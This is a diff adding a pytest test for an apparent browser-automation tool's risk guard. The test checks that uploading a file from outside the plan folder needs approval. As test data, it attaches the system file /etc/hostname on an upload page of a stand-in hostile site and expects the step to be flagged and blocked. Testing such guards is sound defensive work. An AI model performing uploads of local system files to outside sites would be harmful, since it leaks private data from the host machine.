@@ -556,3 +556,24 @@ def test_effective_method(
     from lam.risk_http import effective_method
 
     assert effective_method(method, headers, url, form) == expected
+
+
+@browser
+def test_uploading_a_file_from_outside_the_plan_folder_needs_approval(
+    site: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    secret = Path("/etc/hostname")
+    if not secret.is_file():
+        pytest.skip("no /etc/hostname here")
+    note = tmp_path / "note.txt"
+    note.write_text("a note the plan ships with")
+    steps: list[dict[str, Any]] = [{"id": "open", "goto": "evil:/pages/upload.html"},
+                                   {"id": "attach", "upload": {"label": "Attachment"}}]  # fmt: skip
+    steps[1]["value"] = str(secret)
+    code, result = run(capsys, "run", str(plan_file(tmp_path, site.url, steps)))
+    assert code == 3, result
+    (check,) = [e for e in _guard_events(result) if e["step"] == "attach"]
+    assert check["risk"] == "destructive" and "outside the plan's folder" in check["reasons"][-1]
+    steps[1]["value"] = str(note)
+    code, result = run(capsys, "run", str(plan_file(tmp_path, site.url, steps)))
+    assert code == 0, result
